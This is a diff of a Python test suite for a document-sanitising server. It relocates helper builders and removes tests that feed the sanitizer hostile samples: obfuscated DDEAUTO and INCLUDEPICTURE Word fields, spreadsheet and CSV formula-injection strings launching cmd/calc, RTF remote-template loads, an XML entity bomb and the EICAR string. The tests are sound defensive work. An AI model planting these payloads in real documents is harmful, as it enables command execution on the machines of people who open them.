@@ -1,95 +1,18 @@
 """The sanitising server's cleaning of files and mails, with documents made here: run in such a guest, where qpdf, clamscan and olefile are.
-   python3 test_files.py"""
+   PYTHONPATH=<where documents.py is> python3 test_files.py"""
 import base64
 import email
 import email.policy
-import io
 import re
-import struct
 import subprocess
 import tempfile
 import unittest
-import zipfile
 from email.message import EmailMessage
 
+from documents import OFFICE, OLE_MAGIC, compound, members, pdf, word, zipped
 from sanitizer import files, kinds, mail, verdict, virus
 
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
-OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
-OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-PACKAGE = "http://schemas.openxmlformats.org/package/2006"
-
-
-def zipped(members, **options):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, **options) as archive:
-        for name, data in members.items():
-            archive.writestr(name, data)
-    return buffer.getvalue()
-
-
-def members(data):
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        return {name: archive.read(name) for name in archive.namelist()}
-
-
-def relationships(*lines):
-    body = "".join(f'<Relationship Id="{identity}" Type="{kind}" Target="{target}"{more}/>' for identity, kind, target, more in lines)
-    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships">{body}</Relationships>'
-
-
-def word(macro=True, more_relationships=(), body="", **parts):
-    main = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro else (
-        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
-    )
-    vba = [("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", "")] if macro else []
-    document = {
-        "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types">'
-        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
-        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
-        "_rels/.rels": relationships(("rId1", f"{OFFICE}/officeDocument", "word/document.xml", "")),
-        "word/document.xml": '<w:document xmlns:w="urn:w" xmlns:r="urn:r" xmlns:o="urn:o"><w:body><w:p><w:r><w:t>見積書</w:t></w:r></w:p>'
-        f"{body}</w:body></w:document>",
-        "word/_rels/document.xml.rels": relationships(*vba, *more_relationships),
-    }
-    if macro:
-        document["word/vbaProject.bin"] = OLE_MAGIC + b"Sub AutoOpen()"
-    document.update(parts)
-    return zipped(document)
-
-
-def pdf(catalog="", objects=()):
-    """A PDF of one page; qpdf puts its cross-references right."""
-    everything = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-                  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>", *objects]  # fmt: skip
-    out, offsets = b"%PDF-1.7\n", []
-    for number, text in enumerate(everything, 1):
-        offsets.append(len(out))
-        out += f"{number} 0 obj\n{text}\nendobj\n".encode()
-    start = len(out)
-    out += f"xref\n0 {len(everything) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
-    return out + f"trailer\n<< /Size {len(everything) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
-
-
-def compound(*names):
-    """A compound file (MS-CFB) with one empty storage of each name, beside a stream WordDocument."""
-    free, end, no = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFF
-
-    def entry(name, kind, right=no, child=no, start=end, size=0):
-        text = name.encode("utf-16-le")
-        return text.ljust(64, b"\0") + struct.pack("<HBBIII16xI16xIQ", len(text) + 2, kind, 1, no, right, child, 0, start, size)
-
-    everything = ["WordDocument", *names]
-    directory = entry("Root Entry", 5, child=1)
-    for index, name in enumerate(everything, 1):
-        right = index + 1 if index < len(everything) else no
-        directory += entry(name, 2 if index == 1 else 1, right=right, start=2 if index == 1 else 0, size=4096 if index == 1 else 0)
-    directory = directory.ljust(512, b"\0")
-    assert len(directory) == 512
-    fat = struct.pack("<IIIIIIIIII", 0xFFFFFFFD, end, 3, 4, 5, 6, 7, 8, 9, end).ljust(512, b"\xff")
-    header = OLE_MAGIC + bytes(16) + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
-    return header + struct.pack("<I", 0) + struct.pack("<I", free) * 108 + fat + directory + b"text".ljust(4096, b"\0")
 
 
 class Documents(unittest.TestCase):
@@ -148,84 +71,6 @@ class Documents(unittest.TestCase):
         self.check("a.doc", compound(), verdict.PASSED)
         self.assertIn("macros", self.check("a.doc", compound("Macros"), verdict.REPLACED).details[0])
         self.assertIn("embedded", self.check("a.doc", compound("ObjectPool"), verdict.REPLACED).details[0])
-
-    def field(self, *runs, shown="x"):
-        """A Word field whose instruction is cut into these runs; a run may be a field itself."""
-        def mark(kind):
-            return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
-
-        texts = "".join(run if run.startswith("<") else f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
-        return f'{mark("begin")}{texts}{mark("separate")}<w:r><w:t>{shown}</w:t></w:r>{mark("end")}'
-
-    def test_word_fields_that_start_or_load_something_go_however_they_are_written(self):
-        dde = self.field(" DDEAUTO ", "c:\\cmd.exe")
-        for body in (
-            self.field("&#68;&#68;EAUTO cmd"), self.field("D", "DEA", "UTO cmd"), self.field("dde cmd"), dde.replace("w:instrText", "v:instrText").replace("w:fldChar", "v:fldChar"),
-            self.field('INCLUDETEXT "cmd"'), self.field('INCLUDEPICTURE "http://203.0.113.66/cmd" \\d'), self.field(self.field("QUOTE 68 68 69"), " cmd"),
-            '<w:fldSimple w:instr="&#x44;DEAUTO cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple>', dde.replace('<w:r><w:fldChar w:fldCharType="end"/></w:r>', ""),
-        ):  # fmt: skip
-            body = f'<w:p xmlns:v="urn:w">{self.field(" PAGE ")}{body}</w:p>'
-            result = self.check("a.docx", word(False, body=body), verdict.CLEANED)
-            text = members(result.data)["word/document.xml"]
-            self.assertNotIn(b"cmd", text, body)
-            self.assertIn(b" PAGE ", text)
-            self.assertIn("見積書".encode(), text)
-        for sound in (self.field(" PAGE "), self.field('HYPERLINK "https://www.saida.example/dde"'), self.field(" IF ", self.field("PAGE"), "=1 a b"),
-                      self.field("TOC", shown=self.field("PAGEREF x"))):  # fmt: skip
-            self.check("a.docx", word(False, body=sound), verdict.PASSED)
-
-    def test_xml_in_another_encoding_or_under_another_name_is_read_all_the_same(self):
-        text = members(word(False, body=self.field("DDEAUTO cmd")))["word/document.xml"].decode()
-        wide = ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")
-        result = self.check("a.docx", word(False, **{"word/document.xml": wide}), verdict.CLEANED)
-        self.assertNotIn("cmd", members(result.data)["word/document.xml"].decode())
-        result = self.check("a.docx", word(False, **{"word/other.dat": text}), verdict.CLEANED)
-        self.assertNotIn(b"cmd", members(result.data)["word/other.dat"])
-
-    def test_xml_that_cannot_be_read_or_grows_is_refused(self):
-        bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
-        for data in ("<a><b></a>", "no XML", bomb, bomb.encode("utf-16"), "<a>" * 300 + "</a>" * 300, "<?xml version='1.0' encoding='x-none'?><a/>"):
-            self.check("a.docx", word(False, **{"word/styles.xml": data}), verdict.REPLACED)
-            self.check("a.odt", zipped({"mimetype": "x", "META-INF/manifest.xml": "<m/>", "content.xml": data}), verdict.REPLACED)
-        result = self.check("a.xlsx", word(False, **{"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}), verdict.CLEANED)
-        self.assertNotIn("xl/drawings/vmlDrawing1.vml", members(result.data))
-
-    def test_formulas_that_start_or_load_something_go_and_others_stay(self):
-        def sheet(*formulas):
-            cells = "".join(f"<x:c><x:f>{formula}</x:f><x:v>17</x:v></x:c>" for formula in formulas)
-            return word(False, **{"xl/worksheets/sheet1.xml": f'<x:worksheet xmlns:x="urn:x">{cells}</x:worksheet>'})
-
-        for formula in ("cmd|'/c calc'!A0", "1+cmd&#124;'/c calc'!A0", "'cmd'|'/c calc'!A0", '_xlfn.WEBSERVICE("http://cmd/"&amp;A1)'):
-            result = self.check("a.xlsx", sheet(formula, "SUM(A1:A9)"), verdict.CLEANED)
-            text = members(result.data)["xl/worksheets/sheet1.xml"]
-            self.assertNotIn(b"cmd", text)
-            self.assertIn(b"<x:v>17</x:v>", text)
-            self.assertIn(b"SUM(A1:A9)", text)
-        self.check("a.xlsx", sheet("SUM(A1)", 'IF(A1="a|b!",1,2)', "'a|b'!A1"), verdict.PASSED)
-        odf = {"mimetype": "x", "META-INF/manifest.xml": "<m/>"}
-        table = """<a xmlns:t="urn:t"><t:cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"/><t:dde-source t:x="cmd"/></a>"""
-        self.assertNotIn(b"cmd", members(self.check("a.ods", zipped({**odf, "content.xml": table}), verdict.CLEANED).data)["content.xml"])
-
-    def test_rtf_is_refused_when_a_field_starts_or_loads_something(self):
-        for text in (
-            rb'{\field{\*\fldinst {DDEAUTO "cmd" "/c calc"}}{\fldrslt x}}', rb"{\field{\*\fldinst{\b D}{\i DE}AU" + b"\n" + rb"TO cmd}}",
-            rb"{\field{\*\fldinst \'44\'44E cmd}}", rb"{\field{\*\fldinst \u68?\u68?E cmd}}", rb'{\field{\*\fldinst INCLUDEPICTURE "http://x/y" \\d}}',
-            rb"{\field{\*\fldinst {{\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} cmd}}}", rb"{\field{\*\fldinst DDE cmd",
-            rb"{\object\objemb{\*\objdata 0105}}", rb"{\*\template http://x/y.dot}",
-        ):  # fmt: skip
-            self.check("a.rtf", rb"{\rtf1 " + text + b"}", verdict.REPLACED)
-        for text in (rb"hello DDE", rb'{\field{\*\fldinst HYPERLINK "https://x/\\\'83\'65"}{\fldrslt \u35211?}}', rb"{\pict\bin6 \{\{{{}", rb"{\field{\*\fldinst PAGE}}"):
-            self.check("a.rtf", rb"{\rtf1 " + text + b"}", verdict.PASSED)
-
-    def test_cells_of_tables_that_would_start_something_become_text(self):
-        for text in ("=cmd|'/c calc'!A0", "a,\"=cmd|'/c calc'!A0\"", "氏名;@SUM(1;1)*cmd|'/c calc'!A0", "1\t-2+3+cmd|'/c calc'!A0", '"+cmd|\'/c\n\'!A0"'):
-            for encoding in ("utf-8", "cp932"):
-                result = self.check("a.csv", text.encode(encoding), verdict.CLEANED)
-                self.assertNotRegex(result.data.decode(encoding), r"(?m)(^|[,;\t])\"?[=@+-]")
-                self.assertEqual(files.clean("a.csv", result.data).action, verdict.PASSED)
-        for text in ("氏名,=SUM(A1)\n-5,+81 3\n", "a|b!,-5,-1.5\n", "ポイント!,-5"):
-            self.check("a.csv", text.encode("cp932"), verdict.PASSED)
-        self.check("a.csv", b"ID;PWXL\nC;X1;Y1;K0;Ecmd|'/c'!A0", verdict.REPLACED)
 
     def test_pdf_loses_scripts_and_starts_and_keeps_its_page(self):
         active = pdf("/OpenAction 4 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> /EmbeddedFiles << /Names [(x) 5 0 R] >> >>",
